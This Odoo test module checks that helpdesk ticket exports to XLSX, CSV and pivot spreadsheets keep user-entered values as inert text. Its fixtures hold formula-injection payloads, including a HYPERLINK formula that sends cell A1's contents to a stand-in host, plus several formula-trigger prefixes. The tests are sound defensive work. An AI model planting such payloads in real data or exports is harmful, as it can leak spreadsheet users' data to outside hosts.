"""Nothing that somebody wrote is run by the program that opens an export."""

import csv
import io
import json

import openpyxl
from odoo.http import Request
from odoo.tests import HttpCase, tagged

from ..common import ComplaintCommon

RUN = '=HYPERLINK("http://x.example/"&A1,"看")'
TEXTS = (RUN, "{=1+1}", "+1", "-1", "@SUM(1)", "\t=1", "\r=1")


@tagged("post_install", "-at_install")
class TestExport(HttpCase, ComplaintCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.ref("base.group_allow_export").user_ids += cls.clerk
        cls.tickets = cls.env["helpdesk.ticket"].browse(
            [cls.new_complaint(service_item=text).id for text in TEXTS]
        )
        # What the desk cleans on entry may stand there from before.
        for ticket, text in zip(cls.tickets, TEXTS, strict=True):
            ticket.flush_recordset()
            cls.env.cr.execute(
                "UPDATE helpdesk_ticket SET service_item = %s WHERE id = %s", [text, ticket.id]
            )
        cls.env.invalidate_all()

    def export(self, kind, **params):
        self.authenticate(self.clerk.login, self.clerk.login)
        data = {
            "model": "helpdesk.ticket",
            "fields": [{"name": "service_item", "label": "事项", "type": "char"}],
            "ids": self.tickets.ids,
            "domain": [],
            "import_compat": False,
            "groupby": [],
            **params,
        }
        answer = self.url_open(f"/web/export/{kind}", self.form(data))
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def form(self, data):
        return {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}

    def cells(self, content):
        """Return the cells of a workbook with what a spreadsheet takes them for."""
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}

    def test_list_holds_texts_and_no_formula(self):
        cells = self.cells(self.export("xlsx"))
        self.assertEqual(cells[RUN], "s")
        self.assertNotIn("f", cells.values())

    def test_grouped_list_holds_texts_and_no_formula(self):
        cells = self.cells(self.export("xlsx", groupby=["service_item"]))
        self.assertEqual(cells[RUN], "s")
        self.assertNotIn("f", cells.values())
        self.assertEqual(sum(str(value).startswith("{=1+1} (") for value in cells), 1)

    def test_csv_runs_nothing(self):
        rows = list(csv.reader(io.StringIO(self.export("csv").decode())))
        quoted = {text if text.startswith("{") else f"'{text}" for text in TEXTS}
        self.assertEqual({row[0] for row in rows[1:]}, quoted)

    def test_pivot_holds_texts_and_no_formula(self):
        self.authenticate(self.clerk.login, self.clerk.login)
        table = {
            "title": "统计",
            "model": "helpdesk.ticket",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[{"title": RUN, "width": 1, "height": 1}]],
            "measure_headers": [{"title": "{=1+1}", "is_bold": False}],
            "rows": [{"title": RUN, "indent": 0, "values": [{"value": 3}, {"value": RUN}]}],
        }
        answer = self.url_open("/web/pivot/export_xlsx", self.form(table))
        cells = self.cells(answer.content)
        self.assertEqual(cells[f"'{RUN}"], "s")
        self.assertEqual(cells[3], "n")
        self.assertNotIn("f", cells.values())
